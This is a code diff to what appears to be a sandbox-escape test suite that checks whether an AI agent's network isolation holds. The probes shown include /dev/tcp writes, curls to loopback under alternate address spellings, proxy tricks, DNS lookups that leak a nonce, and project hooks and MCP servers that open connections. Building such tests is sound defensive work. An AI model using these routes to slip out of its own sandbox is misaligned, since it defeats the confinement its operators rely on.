@@ -14,8 +14,9 @@ NAMES = "DNS"
 PROGRAMS = "the network, through hooks and MCP servers"
 
 
-def heard(lab: Lab, words: str, command: str, **more: object) -> Plan:
-    return Plan([bash(command, **more)], lambda: lab.listeners.find(words))
+def heard(lab: Lab, words: str, command: str) -> Plan:
+    # The allowed port may hear it; no other must.
+    return Plan([bash(command)], lambda: lab.listeners.find(words, but="the manager's port"))
 
 
 @attempt("loopback-curl", LOOPBACK, "curl another loopback port")
@@ -33,11 +34,22 @@ def _(lab: Lab) -> Plan:
     return heard(lab, words, f"(echo {words} >/dev/tcp/127.0.0.1/{port}) 2>&1; {probe}")
 
 
-@attempt("loopback-spellings", LOOPBACK, "Other spellings of this machine: 0.0.0.0, 127.1, decimal, IPv4 in IPv6, a name")
+@attempt(
+    "loopback-spellings", LOOPBACK, "Other spellings of this machine: 0.0.0.0, 127.1, decimal, IPv4 in IPv6, a name"
+)
 def _(lab: Lab) -> Plan:
     words = lab.nonce()
     port = lab.ports["loopback"]
-    hosts = ("0.0.0.0", "127.1", "2130706433", "127.0.0.2", "[::ffff:127.0.0.1]", "localhost.", "localhost", "LOCALHOST")
+    hosts = (
+        "0.0.0.0",
+        "127.1",
+        "2130706433",
+        "127.0.0.2",
+        "[::ffff:127.0.0.1]",
+        "localhost.",
+        "localhost",
+        "LOCALHOST",
+    )
     urls = " ".join(f"'http://{host}:{port}/{words}'" for host in hosts)
     return heard(lab, words, f"for u in {urls}; do curl -s -g -m 2 $u; done")
 
@@ -77,13 +89,7 @@ def _(lab: Lab) -> Plan:
         f" curl -s -m 2 --noproxy '' -x http://127.0.0.1:{manager} http://{to}/{words};"
         f" curl -s -m 2 --noproxy '' -p -x http://127.0.0.1:{manager} http://{to}/{words}"
     )
-
-    def evidence() -> str | None:
-        # The allowed port itself may hear it; the other one must not.
-        found = [said for name, said in lab.listeners.heard if name != "the manager's port" and words.encode() in said]
-        return "another loopback port heard it" if found else None
-
-    return Plan([bash(f"{command}; curl -s -m 2 --noproxy '*' http://{to}/{words}")], evidence)
+    return heard(lab, words, f"{command}; curl -s -m 2 --noproxy '*' http://{to}/{words}")
 
 
 @attempt("other-address", OTHERS, "curl an address of the machine that is not loopback")
@@ -114,7 +120,7 @@ def _(lab: Lab) -> Plan:
 @attempt("dns", NAMES, "Look up a name, which tells the name server a secret")
 def _(lab: Lab) -> Plan:
     words = lab.nonce()
-    return heard(lab, words, f"timeout 4 getent hosts {words}.example.org")
+    return heard(lab, words, f"timeout 2 getent hosts {words}.example.org")
 
 
 @attempt("dns-proxy", NAMES, "Let the sandbox's proxy look up a name")
@@ -124,7 +130,12 @@ def _(lab: Lab) -> Plan:
     return heard(lab, words, command)
 
 
-@attempt("hook-network", PROGRAMS, "A hook of the project's settings that connects to another loopback port", session="project")
+@attempt(
+    "hook-network",
+    PROGRAMS,
+    "A hook of the project's settings that connects to another loopback port",
+    session="project",
+)
 def _(lab: Lab) -> Plan:
     words = lab.nonce()
     command = lab.probe("tcp", "127.0.0.1", lab.ports["loopback"], words)
@@ -132,7 +143,9 @@ def _(lab: Lab) -> Plan:
     return Plan([bash("echo hello")], lambda: lab.listeners.find(words))
 
 
-@attempt("mcp-network", PROGRAMS, "An MCP server of the project's that connects to another loopback port", session="project")
+@attempt(
+    "mcp-network", PROGRAMS, "An MCP server of the project's that connects to another loopback port", session="project"
+)
 def _(lab: Lab) -> Plan:
     words = lab.nonce()
     arguments = [str(lab.workspace / "probes.py"), "tcp", "127.0.0.1", str(lab.ports["loopback"]), words]
@@ -140,7 +153,9 @@ def _(lab: Lab) -> Plan:
     return Plan([bash("sleep 0.3")], lambda: lab.listeners.find(words))
 
 
-@attempt("mcp-http", PROGRAMS, "An MCP server of the project's that is another loopback port", session="project")
+@attempt(
+    "mcp-http", PROGRAMS, "An MCP server of the project's that is reached at another loopback port", session="project"
+)
 def _(lab: Lab) -> Plan:
     words = lab.nonce()
     mcp_server(lab, "http", {"type": "http", "url": f"http://127.0.0.1:{lab.ports['loopback']}/{words}"})
